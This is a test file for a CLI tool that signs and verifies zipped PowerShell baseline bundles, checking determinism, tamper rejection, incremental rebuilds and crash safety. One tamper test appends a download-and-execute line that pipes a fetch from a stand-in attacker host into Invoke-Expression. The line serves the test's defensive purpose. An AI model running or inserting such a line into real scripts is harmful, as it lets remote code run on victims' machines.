/**
 * Signed unit bundles: byte-identical across runs; `attt verify` accepts the genuine
 * bundle and rejects a tampered, missing or extra file and a wrong key; a regeneration
 * after one unit changes rewrites only that unit's zip; a killed run leaves the previous
 * output intact.
 */
import { cpSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execa } from "execa";
import { strToU8 } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import { MANIFEST, SIGNATURE } from "../baselines/bundle/manifest.js";
import { unzipFiles, zipFiles } from "../baselines/bundle/zip.js";
import { writeSyntheticProvince } from "../bench/synthetic-province.js";
import { DEMO_INVENTORY } from "../model/demo.js";
import { runCli } from "./helpers/cli.js";

const work = mkdtempSync(join(tmpdir(), "attt-signed-"));
const keys = join(work, "keys");
const KEY = join(keys, "attt-signing.key");
const PUB = join(keys, "attt-signing.pub");
const inventory = join(work, "inventory");
const zipOf = (dir: string, unit: string) => join(dir, `${unit}.zip`);
const UNIT = "hy-mn-hoa-mai";

beforeAll(async () => {
  cpSync(DEMO_INVENTORY, inventory, { recursive: true });
  expect((await runCli(["keygen", "--out", keys])).exitCode).toBe(0);
  const r = await runCli(["baseline", "package", inventory, "--out", join(work, "a"), "--sign-key", KEY]);
  expect(r.exitCode, r.stderr).toBe(0);
}, 120_000);

/** Rebuilds a zip with one change, as an attacker with the zip (but not the key) could. */
function tampered(name: string, change: (files: Map<string, Uint8Array>) => void): string {
  const files = unzipFiles(readFileSync(zipOf(join(work, "a"), UNIT)));
  change(files);
  const out = join(work, `${name}.zip`);
  writeFileSync(out, zipFiles(files));
  return out;
}

describe("signed bundles", () => {
  it("are byte-identical across runs", async () => {
    const r = await runCli(["baseline", "package", inventory, "--out", join(work, "b"), "--sign-key", KEY]);
    expect(r.exitCode).toBe(0);
    const names = readdirSync(join(work, "a")).filter((n) => n.endsWith(".zip"));
    expect(names.length).toBeGreaterThan(30);
    for (const n of names)
      expect(readFileSync(join(work, "b", n)).equals(readFileSync(join(work, "a", n))), n).toBe(true);
  });

  it("carry a manifest listing every file with its sha256, and a signature", () => {
    const files = unzipFiles(readFileSync(zipOf(join(work, "a"), UNIT)));
    const manifest = JSON.parse(Buffer.from(files.get(MANIFEST) as Uint8Array).toString("utf8"));
    expect(files.has(SIGNATURE)).toBe(true);
    expect(manifest.files.map((f: { path: string }) => f.path).sort()).toEqual(
      [...files.keys()].filter((n) => n !== MANIFEST && n !== SIGNATURE).sort(),
    );
    expect(manifest.generator).toMatch(/^attt-kit /);
    expect(manifest.inventorySha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it("verify accepts the genuine bundle", async () => {
    const r = await runCli(["verify", zipOf(join(work, "a"), UNIT), "--key", PUB]);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toMatch(/^OK: .*signature valid/);
  });

  const rejections: Array<[string, () => string, RegExp, string?]> = [
    [
      "a tampered file",
      () =>
        tampered("altered", (f) => {
          const name = [...f.keys()].find((n) => n.endsWith("Apply-Baseline.ps1")) as string;
          f.set(
            name,
            strToU8(
              `${Buffer.from(f.get(name) as Uint8Array).toString("utf8")}\nInvoke-WebRequest http://evil.example | Invoke-Expression\n`,
            ),
          );
        }),
      /altered file: .*Apply-Baseline\.ps1/,
    ],
    [
      "a missing file",
      () =>
        tampered("missing", (f) => {
          f.delete([...f.keys()].find((n) => n.endsWith("Undo-Baseline.ps1")) as string);
        }),
      /missing file: .*Undo-Baseline\.ps1/,
    ],
    [
      "an extra file",
      () => tampered("extra", (f) => f.set("windows-office/run-me-too.ps1", strToU8("Write-Host hi"))),
      /extra file not in the manifest: windows-office\/run-me-too\.ps1/,
    ],
    [
      "an altered manifest",
      () =>
        tampered("manifest", (f) => {
          const m = JSON.parse(Buffer.from(f.get(MANIFEST) as Uint8Array).toString("utf8"));
          m.files.pop();
          f.set(MANIFEST, strToU8(JSON.stringify(m, null, 2)));
        }),
      /signature does not match/,
    ],
    ["no signature", () => tampered("unsigned", (f) => f.delete(SIGNATURE)), /not signed/],
  ];
  for (const [name, make, message] of rejections) {
    it(`verify rejects ${name}`, async () => {
      const r = await runCli(["verify", make(), "--key", PUB]);
      expect(r.exitCode).toBe(1);
      expect(r.stderr).toMatch(/^REJECTED: /);
      expect(r.stderr).toMatch(message);
    });
  }

  it("verify rejects a bundle signed with another key", async () => {
    const other = join(work, "other-keys");
    await runCli(["keygen", "--out", other]);
    const r = await runCli([
      "verify",
      zipOf(join(work, "a"), UNIT),
      "--key",
      join(other, "attt-signing.pub"),
    ]);
    expect(r.exitCode).toBe(1);
    expect(r.stderr).toMatch(/signature does not match/);
  });

  it("a key that is not a key is bad input", async () => {
    writeFileSync(join(work, "junk.pub"), "not a key");
    const r = await runCli(["verify", zipOf(join(work, "a"), UNIT), "--key", join(work, "junk.pub")]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/expected an Ed25519 public key/);
  });

  it("attt sign signs an unsigned bundle, which then verifies", async () => {
    const out = join(work, "unsigned-out");
    expect((await runCli(["baseline", "package", inventory, "--out", out])).exitCode).toBe(0);
    const zip = zipOf(out, UNIT);
    expect((await runCli(["verify", zip, "--key", PUB])).exitCode).toBe(1);
    expect((await runCli(["sign", zip, "--key", KEY])).exitCode).toBe(0);
    expect((await runCli(["verify", zip, "--key", PUB])).exitCode).toBe(0);
    // Signing is deterministic: the same bytes as a bundle signed at build time.
    expect(readFileSync(zip).equals(readFileSync(zipOf(join(work, "a"), UNIT)))).toBe(true);
  });
});

describe("province-scale packaging", () => {
  it("after one unit changes, rewrites only that unit's zip", async () => {
    const out = join(work, "incremental");
    expect((await runCli(["baseline", "package", inventory, "--out", out, "--sign-key", KEY])).exitCode).toBe(
      0,
    );
    const before = new Map(readdirSync(out).map((n) => [n, statSync(join(out, n)).ino]));
    const unitFile = join(inventory, "units", `${UNIT}.yaml`);
    writeFileSync(
      unitFile,
      readFileSync(unitFile, "utf8").replace(/count: (\d+)/, (_m, n) => `count: ${Number(n) + 1}`),
    );
    const r = await runCli(["baseline", "package", inventory, "--out", out, "--sign-key", KEY, "--json"]);
    const summary = JSON.parse(r.stdout);
    expect(summary.rebuilt).toBe(1);
    expect(summary.unchanged).toBe(summary.units - 1);
    for (const n of readdirSync(out).filter((x) => x.endsWith(".zip"))) {
      if (n === `${UNIT}.zip`) expect(statSync(join(out, n)).ino).not.toBe(before.get(n));
      else expect(statSync(join(out, n)).ino, n).toBe(before.get(n));
    }
  });

  it("a run killed midway leaves the previous output exactly as it was", async () => {
    const big = join(work, "big");
    writeSyntheticProvince(big, { schools: 300, namedHosts: false });
    const out = join(work, "atomic");
    expect((await runCli(["baseline", "package", big, "--out", out])).exitCode).toBe(0);
    const snapshot = () =>
      new Map(readdirSync(out).map((n) => [n, readFileSync(join(out, n)).toString("base64")]));
    const before = snapshot();
    // Change every unit so the next run must rebuild everything, then kill it.
    for (const f of readdirSync(join(big, "units"))) {
      const p = join(big, "units", f);
      writeFileSync(p, readFileSync(p, "utf8").replace("level: 2", "level: 3"));
    }
    const child = execa(
      "node",
      [
        "--import",
        "tsx",
        join(import.meta.dirname, "..", "bin", "attt.ts"),
        "baseline",
        "package",
        big,
        "--out",
        out,
      ],
      { reject: false },
    );
    await new Promise((r) => setTimeout(r, 2500));
    child.kill("SIGKILL");
    await child;
    expect(snapshot()).toEqual(before);
  });
});
